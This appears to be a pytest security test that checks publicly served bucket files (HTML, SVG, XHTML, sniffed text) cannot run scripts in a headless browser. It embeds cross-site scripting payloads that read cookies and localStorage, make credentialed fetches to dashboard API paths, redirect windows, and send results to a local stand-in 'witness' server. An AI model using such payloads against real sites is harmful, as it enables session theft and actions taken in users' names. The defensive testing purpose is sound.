"""Public pages in a real browser: what they bring along runs nothing, and so can do nothing in their reader's name."""

from __future__ import annotations

import http.server
import os
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from cloud import bucket

pytestmark = [pytest.mark.usefixtures("empty_bucket"), pytest.mark.slow]

PAGE = """<!DOCTYPE html><html><body onload="act('load')"><p id="said">nothing</p><img src="x:" onerror="act('error')">
<script>
function act(how) { document.getElementById('said').textContent = 'ran ' + how; fetch('%(witness)s/' + how, {mode: 'no-cors'}); }
act('script');
for (const path of ['/v1/server', '/v1/job', '/v1/object'])
  for (const where of ['', '%(server)s'])
    fetch(where + path, {credentials: 'include'}).then(r => r.text()).then(t => fetch('%(witness)s/stolen', {mode: 'no-cors'}));
try { act('storage' + localStorage.length + document.cookie) } catch (e) {}
try { opener.location = '%(witness)s/opener'; top.location = '%(witness)s/top' } catch (e) {}
</script>
<form id="form" action="%(witness)s/form"></form><iframe srcdoc="<script>parent.act('frame')</script>"></iframe>
<a href="javascript:act('link')" autofocus onfocus="act('focus')">x</a></body></html>"""
SVG = """<svg xmlns="http://www.w3.org/2000/svg" onload="documentElement.setAttribute('said', 'ran')"><text>nothing</text>
<script>document.querySelector('text').textContent = 'ran';
fetch('%(witness)s/svg', {mode: 'no-cors'})</script></svg>"""


class Witness(http.server.BaseHTTPRequestHandler):
    """Hears what a page that runs would say; serves the page itself as another server would."""

    heard: list[str]
    page: bytes

    def do_GET(self) -> None:
        self.heard.append(self.path)
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(self.page if self.path == "/page" else b"")

    def log_message(self, *_: Any) -> None:
        """Keep silent."""


@pytest.fixture
def witness() -> Iterator[http.server.ThreadingHTTPServer]:
    class Own(Witness):
        heard: list[str] = []
        page = b""

    made = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Own)
    thread = threading.Thread(target=made.serve_forever)
    thread.start()
    yield made
    made.shutdown()
    thread.join()
    made.server_close()


def shown(url: str, home: Path) -> str:
    """What a browser makes of a page, with all that its scripts did."""
    words = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", f"--user-data-dir={home}", "--virtual-time-budget=5000"]
    done = subprocess.run(["chromium-headless-shell", *words, "--dump-dom", url], env={**os.environ, "HOME": str(home)},
                          capture_output=True, text=True, timeout=120, check=True)  # fmt: skip
    return done.stdout


def test_a_page_that_runs_against_the_dashboard(server: Any, witness: Any, tmp_path: Path) -> None:
    own = witness.RequestHandlerClass
    told = {"witness": f"http://127.0.0.1:{witness.server_port}", "server": server.url}
    own.page = (PAGE % told).encode()
    assert "ran " in shown(f"{told['witness']}/page", tmp_path) and "/script" in own.heard  # elsewhere it does run
    for name, text, headers in (
        ("page.html", PAGE % told, {}),
        ("own-policy.html", PAGE % told, {"content-security-policy": "sandbox allow-scripts allow-same-origin allow-forms"}),
        ("other", PAGE % told, {"content-type": "text/html"}),
        ("drawing.svg", SVG % told, {}),
        ("page.xhtml", (PAGE % told).replace("<html>", '<html xmlns="http://www.w3.org/1999/xhtml">'), {}),
        ("sniffed.txt", PAGE % told, {}),
    ):
        own.heard.clear()
        bucket.putf(text, name)
        seen = shown(bucket.make_public(name, headers=headers), tmp_path)
        assert "nothing" in seen and 'said="ran' not in seen, seen
        assert ">ran" not in seen and own.heard == [], (name, own.heard)
